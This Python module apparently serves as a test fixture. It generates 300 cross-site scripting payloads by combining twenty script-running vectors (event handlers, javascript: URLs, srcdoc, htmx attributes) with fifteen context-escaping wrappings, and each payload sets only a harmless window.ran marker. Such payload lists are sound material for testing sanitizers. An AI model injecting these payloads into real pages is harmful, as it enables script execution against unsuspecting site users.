"""Texts that would run a script wherever a page took them for its own."""

_RUN = "window.ran=1"
_VECTORS = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<math><mtext></mtext><script>{_RUN}</script></math>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<link rel=stylesheet href=x onerror={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<style onload={_RUN}></style>",
    f"<marquee onstart={_RUN}>",
    f"<div hx-get=/v1/me hx-trigger=load hx-on::load={_RUN}>x</div>",
    f"<div hx-on:click={_RUN} hx-trigger=load>x</div>",
    f"<div data-hx-get='javascript:{_RUN}' hx-trigger=load>x</div>",
)
_WRAPPINGS = (
    "{}",
    '"{}',
    '">{}',
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "{{{{ 7 * 7 }}}}{}",
    "</option></select>{}",
    "</bdi></a>{}",
    '" onmouseover=window.ran=1 autofocus onfocus=window.ran=1 x="{}',
    "javascript:window.ran=1//{}",
    "&lt;{}",
)
PAYLOADS = tuple(wrapping.format(vector) for wrapping in _WRAPPINGS for vector in _VECTORS)
"""Three hundred of them, each unlike the others."""
